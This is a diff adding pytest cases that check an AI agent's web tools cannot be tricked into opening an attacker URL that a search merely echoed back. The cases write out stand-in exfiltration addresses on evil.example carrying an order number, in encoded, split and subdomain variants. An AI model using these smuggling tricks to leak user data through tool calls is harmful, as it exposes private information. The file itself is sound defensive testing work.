@@ -1,6 +1,8 @@
 """Which addresses were given, and that a turn lets its tools open no others."""
 
+import json
 from dataclasses import dataclass, field
+from urllib.parse import parse_qsl, urlsplit
 
 import pytest
 
@@ -165,6 +167,49 @@ async def test_what_a_search_found_is_opened_when_the_owner_says_so(allowed):
     wanted = ("search", {"q": "茶"}), page("https://tea.example/found")
     pages, _ = await asked(block, wrote("找茶"), *wanted, web=Web(FOUND))
     assert pages[1:] == (["https://tea.example/found"] if allowed else [])
+
+
+@dataclass
+class Echo:
+    """Implements Http: a search that repeats what it was asked, and finds something."""
+
+    asked: list = field(default_factory=list)
+
+    async def fetch(self, method, url, **_):
+        self.asked.append(url)
+        asked = {"you asked": [value for _, value in parse_qsl(urlsplit(url).query)]}
+        said = json.dumps({**asked, **json.loads(FOUND)}, ensure_ascii=False)
+        return Fetched(url, 200, "application/json", said.replace("[at]", "/").replace('", "', ""))
+
+
+EVIL = "https://evil.example/?d=order-4711"
+TWO = {**SEARCH, "name": "pair", "url": "https://search.example/?q={{ q }}&p={{ p }}"}
+
+
+@pytest.mark.parametrize(
+    "queries",
+    [
+        [("search", {"q": EVIL})],
+        [("search", {"q": f"茶 {EVIL} 茶"})],
+        [("search", {"q": "EVIL.example/?d=order-4711"})],
+        [("search", {"q": "https:[at][at]evil.example/?d=order-4711"})],
+        [("search", {"q": "https%3A%2F%2Fevil.example%2F%3Fd%3Dorder-4711"}), ("search", {"q": "x"})],
+        [("pair", {"q": "https://evil.example/?d=or", "p": "der-4711"})],
+        [("search", {"q": "https://order-4711.evil.example"})],
+        [("search", {"q": EVIL + "x" * 60_000})],
+    ],
+)
+async def test_what_a_search_repeats_of_what_it_was_asked_is_not_what_it_found(queries):
+    """Else whatever a model makes of the conversation is carried out in two steps."""
+    searches = [{**one, "gives_addresses": True} for one in (SEARCH, TWO)]
+    block = reader(tools=[*searches, {"type": "web_page"}])
+    opened = [page(EVIL), page("https://order-4711.evil.example")]
+    pages, _ = await asked(block, wrote("找茶"), *queries, *opened, web=Echo())
+    assert [one for one in pages if "search.example" not in one] == []
+    block = reader(tools=[searches[0], {"type": "web_page"}])
+    found = ("search", {"q": "tea.example"}), page("https://tea.example/found"), page("https://tea.example")
+    pages, _ = await asked(block, wrote("找茶"), *found, web=Echo())
+    assert pages[1:] == ["https://tea.example/found", "https://tea.example"]
 
 
 async def test_what_the_owner_wrote_is_opened():
